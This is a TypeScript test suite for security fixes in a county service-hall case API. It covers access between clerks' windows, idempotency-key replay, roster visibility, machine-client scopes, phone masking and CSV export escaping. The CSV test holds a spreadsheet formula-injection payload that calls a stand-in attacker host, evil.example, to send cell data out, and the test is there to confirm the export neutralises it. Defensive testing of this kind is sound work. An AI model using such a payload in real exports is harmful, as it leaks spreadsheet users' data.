import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { api, clock, settle, startStack, type Stack } from '../support/local-stack.ts';

/**
 * The holes a security review found, each shown through the HTTP edge as an attacker with an
 * account would try it.
 */
let stack: Stack;
let admin: ReturnType<typeof api>;
const as = (role: Parameters<Stack['token']>[0], options: Parameters<Stack['token']>[1] = {}) => api(stack.url, stack.token(role, options));
const MORTGAGE = { itemCode: '331022-BDCDJ-001', applicant: { name: '孙八', phone: '13912345678', idNumber: '33102219800101123X' }, channel: 'window', materials: ['M1', 'M2', 'M3', 'M4', 'M5'] };
type CaseBody = { caseId: string; caseNo: string; windowId: string; version: number; applicant: { phone: string; idNumber: string } };

beforeAll(async () => {
  stack = await startStack('sanmen', { projections: true });
  admin = api(stack.url, await stack.token('admin'));
});
afterAll(async () => stack.close());


/** A case at window W03 (the mortgage item's), accepted, by an administrator. */
async function acceptedCase(date = '2026-11-02'): Promise<CaseBody> {
  const submitted = await admin.post<CaseBody>('/cases', MORTGAGE, clock(date, '09:00'));
  expect(submitted.status).toBe(201);
  const accepted = await admin.post<CaseBody>(`/cases/${submitted.body.caseId}/accept`, {}, clock(date, '09:10'));
  expect(accepted.status).toBe(200);
  return accepted.body;
}

describe('an Idempotency-Key belongs to the caller who sent it', () => {
  it('never replays an administrator’s answer (whole phone and ID numbers) to a clerk of another window sending the same key and body', async () => {
    const key = 'W03-2026-11-02-0001';
    const first = await admin.post<CaseBody>('/cases', MORTGAGE, { ...clock('2026-11-02', '09:00'), 'idempotency-key': key });
    expect(first.status).toBe(201);
    expect(first.body.applicant.phone).toBe('13912345678');
    const elsewhere = as('clerk', { windowId: 'W05' });
    const stolen = await elsewhere.post<CaseBody>('/cases', MORTGAGE, { ...clock('2026-11-02', '09:01'), 'idempotency-key': key });
    expect(stolen.status).toBe(403);
    expect(stolen.text).not.toContain('13912345678');
    expect(stolen.text).not.toContain(first.body.caseId);
    // The clerk of the case's own window, with the same key and body, makes a request of their own.
    const own = await as('clerk', { windowId: 'W03' }).post<CaseBody>('/cases', MORTGAGE, { ...clock('2026-11-02', '09:02'), 'idempotency-key': key });
    expect(own.status).toBe(201);
    expect(own.body.caseId).not.toBe(first.body.caseId);
    expect(own.body.applicant.phone).toBe('139****5678');
    // The administrator's own resend still gets the stored answer.
    const again = await admin.post<CaseBody>('/cases', MORTGAGE, { ...clock('2026-11-02', '09:03'), 'idempotency-key': key });
    expect(again.body).toEqual(first.body);
  });

  it('answers a command on another window’s case with 403, before any stored answer or If-Match', async () => {
    const c = await acceptedCase();
    const key = 'W03-2026-11-02-0002';
    const completed = await admin.post<CaseBody>(`/cases/${c.caseId}/complete`, { decision: 'approved' }, { ...clock('2026-11-02', '10:00'), 'idempotency-key': key });
    expect(completed.status).toBe(200);
    const elsewhere = as('clerk', { windowId: 'W05' });
    const replay = await elsewhere.post(`/cases/${c.caseId}/complete`, { decision: 'approved' }, { ...clock('2026-11-02', '10:01'), 'idempotency-key': key });
    expect(replay.status).toBe(403);
    expect(replay.text).not.toContain('13912345678');
    // A wrong If-Match would tell the case's version: the place check comes first.
    const probe = await elsewhere.post(`/cases/${c.caseId}/deliver`, { method: 'post' }, { ...clock('2026-11-02', '10:02'), 'if-match': '"1"' });
    expect(probe.status).toBe(403);
    expect(probe.text).not.toMatch(/version \d/);
    expect((await as('clerk', { windowId: 'W03' }).post(`/cases/${c.caseId}/deliver`, { method: 'post' }, { ...clock('2026-11-02', '10:02'), 'if-match': '"1"' })).status).toBe(412);
  });
});

describe('the salted phone key', () => {
  it('appears in no response: not on the case, not on its timeline', async () => {
    const c = await acceptedCase();
    await admin.post(`/cases/${c.caseId}/complete`, { decision: 'approved' }, clock('2026-11-02', '11:00'));
    for (const who of [admin, as('director', { user: 'dir-w01', windowId: 'W01' }), as('callback')]) {
      const timeline = await who.get<{ events: { type: string; data: Record<string, unknown> }[] }>(`/cases/${c.caseId}/events`);
      expect(timeline.body.events.map((e) => e.type)).toContain('RatingInvitationDue');
      expect(timeline.text).not.toMatch(/phoneKey/i);
      expect((await who.get(`/cases/${c.caseId}`)).text).not.toMatch(/phoneKey/i);
    }
  });
});

describe('video-check rosters', () => {
  type Roster = { entries: { directorId: string; windowId: string; at: string }[]; offRoster: unknown[] };

  it('show a director only their own checks until the day is over, and never when their own window is checked', async () => {
    const published = await admin.post<Roster>('/rosters/2026-11-12', {}, clock('2026-11-12', '07:00'));
    expect(published.status).toBe(201);
    const all = published.body.entries;
    const me = as('director', { user: 'dir-w03', windowId: 'W03' });
    expect(all.some((e) => e.windowId === 'W03')).toBe(true);
    for (const query of ['', '?director=me']) {
      const seen = await me.get<Roster>(`/rosters/2026-11-12${query}`, clock('2026-11-12', '08:00'));
      expect(seen.status).toBe(200);
      expect(seen.body.entries.length).toBeGreaterThan(0);
      expect(seen.body.entries.every((e) => e.directorId === 'dir-w03')).toBe(true);
      expect(seen.body.entries.some((e) => e.windowId === 'W03')).toBe(false);
    }
    const someoneElse = all.find((e) => e.directorId !== 'dir-w03')!.directorId;
    expect((await me.get(`/rosters/2026-11-12?director=${someoneElse}`, clock('2026-11-12', '08:00'))).status).toBe(403);
    // The administrator sees the whole day; a director sees it too once the day is over, for the record.
    expect((await admin.get<Roster>('/rosters/2026-11-12', clock('2026-11-12', '08:00'))).body.entries).toHaveLength(all.length);
    expect((await me.get<Roster>('/rosters/2026-11-12', clock('2026-11-13', '08:00'))).body.entries).toHaveLength(all.length);
  });
});

describe('machine clients', () => {
  it('each do their one job: a kiosk neither reads SMS nor rates cases', async () => {
    const c = await acceptedCase('2026-11-03');
    const kiosk = as('kiosk', { user: 'kiosk-1' });
    expect((await kiosk.post('/sms/inbound', { from: '13912345678', text: '5' }, clock('2026-11-03', '12:00'))).status).toBe(403);
    expect((await kiosk.post(`/cases/${c.caseId}/reviews`, { level: 'very-dissatisfied', channel: 'window-device' }, clock('2026-11-03', '12:00'))).status).toBe(403);
    expect((await kiosk.post('/tickets', { category: 'A' }, clock('2026-11-03', '12:00'))).status).toBe(201);
    expect((await as('hall-screen', { user: 'screen-1' }).post('/tickets', { category: 'A' }, clock('2026-11-03', '12:00'))).status).toBe(403);
  });

  it('answer the SMS gateway 202 with nothing that names or confirms a case', async () => {
    const c = await acceptedCase('2026-11-03');
    await admin.post(`/cases/${c.caseId}/complete`, { decision: 'approved' }, clock('2026-11-03', '15:00'));
    await settle(async () => (await admin.get<{ events: { type: string }[] }>(`/cases/${c.caseId}/events`)).body.events.some((e) => e.type === 'RatingInvitationDue'));
    const gateway = as('sms-gateway', { user: 'sms-gateway' });
    // Give the projector a moment to index the invitation by the phone's key.
    let rated = false;
    for (let i = 0; i < 100 && !rated; i++) {
      const reply = await gateway.post('/sms/inbound', { from: '13912345678', text: '5' }, clock('2026-11-03', '18:00'));
      expect(reply.status).toBe(202);
      expect(reply.body).toEqual({ received: true });
      const events = (await admin.get<{ events: { type: string }[] }>(`/cases/${c.caseId}/events`)).body.events;
      rated = events.some((e) => e.type === 'CaseReviewed');
      if (!rated) await new Promise((r) => setTimeout(r, 25));
    }
    expect(rated).toBe(true);
    const unknown = await gateway.post('/sms/inbound', { from: '13700000001', text: '5' }, clock('2026-11-03', '18:01'));
    expect(unknown.status).toBe(202);
    expect(unknown.body).toEqual({ received: true });
  });

  it('let a rating device rate only the cases of its own window, on its own channel', async () => {
    const c = await acceptedCase('2026-11-04');
    expect(c.windowId).toBe('W03');
    const here = as('rating-device', { user: 'rater-w03', windowId: 'W03' });
    const there = as('rating-device', { user: 'rater-w05', windowId: 'W05' });
    expect((await there.post(`/cases/${c.caseId}/reviews`, { level: 'very-dissatisfied', channel: 'window-device' }, clock('2026-11-04', '10:00'))).status).toBe(403);
    expect((await here.post(`/cases/${c.caseId}/reviews`, { level: 'satisfied', channel: 'online' }, clock('2026-11-04', '10:00'))).status).toBe(403);
    expect((await here.post(`/cases/${c.caseId}/reviews`, { level: 'satisfied', channel: 'window-device' }, clock('2026-11-04', '10:00'))).status).toBe(201);
    const unbound = as('rating-device', { user: 'rater-nowhere' });
    expect((await unbound.post(`/cases/${c.caseId}/reviews`, { level: 'satisfied', channel: 'window-device' }, clock('2026-11-04', '10:01'))).status).toBe(403);
  });
});

describe('CSV exports', () => {
  it('neutralise text a spreadsheet would run as a formula', async () => {
    const c = await acceptedCase('2026-11-05');
    await admin.post(`/cases/${c.caseId}/reviews`, { level: 'very-dissatisfied', channel: 'window-device' }, clock('2026-11-05', '10:00'));
    await settle(async () => (await admin.get<{ caseId: string }[]>('/rectifications', clock('2026-11-05', '11:00'))).body.some((r) => r.caseId === c.caseId));
    const formula = '=HYPERLINK("http://evil.example/?x="&A1,"回访")';
    expect((await admin.post('/callbacks/lists/2026-11-06', { staff: [formula] }, clock('2026-11-06', '07:30'))).status).toBe(201);
    const csv = await fetch(`${stack.url}/callbacks?date=2026-11-06&format=csv`, { headers: { authorization: `Bearer ${await stack.token('callback')}`, ...clock('2026-11-06', '08:00') } });
    const text = await csv.text();
    expect(text).toContain(c.caseNo);
    const cells = text.split(/\r\n/).flatMap((line) => line.split(','));
    expect(cells.some((cell) => /^"?[=+\-@]/.test(cell))).toBe(false);
    expect(text).toContain(`"'=HYPERLINK(`);
  });
});

describe('whole phone numbers', () => {
  const phoneOf = (items: Record<string, unknown>[]) => JSON.stringify(items);

  it('on a callback list are kept for the county’s 90 days, then only masked; the published list never holds them', async () => {
    const c = await acceptedCase('2026-11-16');
    await admin.post(`/cases/${c.caseId}/reviews`, { level: 'dissatisfied', channel: 'window-device' }, clock('2026-11-16', '10:00'));
    await settle(async () => (await admin.get<{ caseId: string }[]>('/rectifications', clock('2026-11-16', '11:00'))).body.some((r) => r.caseId === c.caseId));
    expect((await admin.post('/callbacks/lists/2026-11-17', { staff: ['cb-li'] }, clock('2026-11-17', '07:30'))).status).toBe(201);
    const callback = as('callback', { user: 'cb-li' });
    type List = { entries: { caseId: string; phone: string }[] };
    const entryOn = async (date: string) => (await callback.get<List>('/callbacks?date=2026-11-17', clock(date, '08:00'))).body.entries.find((e) => e.caseId === c.caseId)!;
    expect((await entryOn('2026-11-17')).phone).toBe('13912345678');
    expect((await entryOn('2027-02-14')).phone).toBe('13912345678');
    expect((await entryOn('2027-02-16')).phone).toBe('139****5678');
    const items = await stack.scan('events');
    expect(phoneOf(items.filter((i) => i.stream === 'callbacks#2026-11-17'))).not.toContain('13912345678');
    const kept = items.find((i) => i.stream === 'contacts#callbacks#2026-11-17')!;
    // The item itself expires (DynamoDB's TTL) when its time is up.
    expect(Number(kept.expiresAt)).toBe(Date.parse('2026-11-17T07:30:00+08:00') / 1000 + 90 * 86_400);
  });

  it('of an unmatched SMS sender are kept for a callback as long, then only masked, and never in the inbox’s events', async () => {
    const gateway = as('sms-gateway', { user: 'sms-gateway' });
    expect((await gateway.post('/sms/inbound', { from: '+8613811112222', text: '请问我的证什么时候能领' }, clock('2026-11-18', '09:00'))).status).toBe(202);
    const callback = as('callback', { user: 'cb-li' });
    type Inbox = { replies: { text: string; phone: string }[] };
    expect((await callback.get<Inbox>('/sms/unmatched?date=2026-11-18', clock('2026-11-18', '10:00'))).body.replies).toMatchObject([{ text: '请问我的证什么时候能领', phone: '13811112222' }]);
    expect((await callback.get<Inbox>('/sms/unmatched?date=2026-11-18', clock('2027-02-17', '10:00'))).body.replies[0]!.phone).toBe('138****2222');
    expect((await as('director', { user: 'dir-w01', windowId: 'W01' }).get('/sms/unmatched?date=2026-11-18')).status).toBe(403);
    const inbox = (await stack.scan('events')).filter((i) => i.stream === 'sms-inbox#2026-11-18');
    expect(inbox).toHaveLength(1);
    expect(phoneOf(inbox)).not.toContain('13811112222');
  });
});
